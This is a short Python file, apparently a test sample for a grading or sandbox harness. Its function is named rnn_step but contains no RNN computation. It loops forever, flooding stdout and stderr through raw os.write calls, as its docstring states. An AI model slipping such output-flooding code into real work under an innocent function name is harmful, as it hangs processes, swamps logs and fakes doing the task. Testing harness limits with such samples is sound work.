"""Write for ever to the descriptors of the standard streams, past Python's own."""

# %% rnn_step
import os


def rnn_step(x, h_prev, Wx, Wh, b):
    while True:
        os.write(1, b"flood " * 10_000)
        os.write(2, b"flood " * 10_000)
